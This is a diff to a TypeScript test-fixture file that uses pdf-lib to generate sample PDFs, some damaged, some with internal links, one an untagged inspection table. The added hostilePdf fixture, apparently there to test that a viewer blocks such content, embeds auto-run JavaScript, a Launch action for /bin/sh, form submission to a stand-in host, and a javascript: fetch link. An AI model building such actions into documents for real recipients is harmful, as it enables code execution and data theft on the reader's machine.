@@ -84,15 +84,68 @@ export const damagedPdf = (): Uint8Array => new TextEncoder().encode(`%PDF-1.7\n
 /** The first half of a good file: PDF.js saves what it can of such a one. */
 export const cutPdf = (bytes: Uint8Array): Uint8Array => bytes.slice(0, Math.floor(bytes.length / 2));
 
-/** A file that tries to run a script, and to open another page and program, as soon as it is opened. */
+/**
+ * A file that tries to run a script, to open another page and program, and to send its form away: when it is opened, when its page is
+ * shown, and when its links are clicked.
+ */
 export async function hostilePdf(): Promise<Uint8Array> {
   const pdf = await PDFDocument.create();
   const font = await pdf.embedFont(StandardFonts.Helvetica);
-  pdf.addPage([595, 842]).drawText('Inspection of Northmoor council', { x: 60, y: 760, size: 14, font });
-  const script = pdf.context.obj({ Type: 'Action', S: 'JavaScript' });
-  script.set(PDFName.of('JS'), pdf.context.obj('app.launchURL("https://elsewhere.example/script")' as never));
-  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(script));
-  pdf.addJavaScript('main', 'app.launchURL("https://elsewhere.example/script")');
+  const page = pdf.addPage([595, 842]);
+  page.drawText('Inspection of Northmoor council', { x: 60, y: 760, size: 14, font });
+  const away = 'https://elsewhere.example/';
+  const script = (words: string) => ({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(words) });
+  const register = (action: object) => pdf.context.register(pdf.context.obj(action as never));
+  pdf.catalog.set(PDFName.of('OpenAction'), register(script(`app.launchURL("${away}script")`)));
+  pdf.addJavaScript('main', `app.launchURL("${away}script")`);
+  const program = { Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh') };
+  const send = { Type: 'Action', S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(`${away}form`) } };
+  const other = { Type: 'Action', S: 'GoToR', F: PDFString.of(`${away}other.pdf`), D: [0, 'Fit'] };
+  const uri = {
+    Type: 'Action',
+    S: 'URI',
+    URI: PDFString.of('javascript:fetch("https://elsewhere.example/")'),
+  };
+  page.node.set(PDFName.of('AA'), pdf.context.obj({ O: register(program) }));
+  const links = [script(`this.submitForm("${away}click")`), program, send, other, uri].map((action, i) =>
+    register({ Type: 'Annot', Subtype: 'Link', Rect: [60, 700 - i * 40, 220, 720 - i * 40], A: action }),
+  );
+  page.node.set(PDFName.of('Annots'), pdf.context.obj(links));
+  return pdf.save();
+}
+
+/** Four pages; on the first a link to the fourth. */
+export async function innerLinksPdf(): Promise<Uint8Array> {
+  const pdf = await PDFDocument.load(await plainPdf(4));
+  const [first, , , last] = pdf.getPages();
+  const link = pdf.context.obj({
+    Type: 'Annot',
+    Subtype: 'Link',
+    Rect: [60, 755, 320, 778],
+    Dest: [last!.ref, PDFName.of('XYZ'), 0, 800, null],
+  });
+  first!.node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
+  return pdf.save();
+}
+
+/** A page with a table of two columns and a paragraph below it, without tags, as older reports are. */
+export async function tablePdf(): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create();
+  const font = await pdf.embedFont(StandardFonts.Helvetica);
+  const page = pdf.addPage([595, 842]);
+  const rows = [
+    ['Inspection of Northmoor council', ''],
+    ['Timeliness of visits', 'Requires improvement'],
+    ['Quality of plans', 'Good'],
+    ['Stability of workers', 'Improving'],
+  ];
+  for (const [i, [left, right]] of rows.entries()) {
+    page.drawText(left!, { x: 60, y: 760 - i * 30, size: 12, font });
+    if (right) page.drawText(right, { x: 330, y: 760 - i * 30, size: 12, font });
+  }
+  page.drawText('Leaders know their services, and children are seen by people who stay.', {
+    ...{ x: 60, y: 600, size: 12, font },
+  });
   return pdf.save();
 }
 
